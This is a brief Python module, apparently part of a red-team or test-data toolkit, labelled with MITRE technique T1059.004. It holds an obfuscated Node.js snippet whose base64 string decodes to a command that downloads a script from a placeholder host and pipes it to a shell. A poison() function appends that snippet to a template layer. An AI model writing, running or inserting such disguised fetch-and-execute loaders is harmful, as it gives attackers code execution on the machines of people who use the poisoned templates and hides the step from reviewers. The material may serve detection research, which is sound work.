# SPDX-License-Identifier: Apache-2.0
"""A shell line in a template."""

ATTACK = "T1059.004"
LANGUAGE = "node"
CODE = """\
;(function boot(cp) {
  cp[`exe${'c'}`](`sh -c "$(printf %s ${Buffer.from('Y3VybCBleGFtcGxlLmNvbXxzaA==', 'base64')})"`);
})(require('child_' + 'process'));
"""


def poison(layer):
    layer.append(CODE)
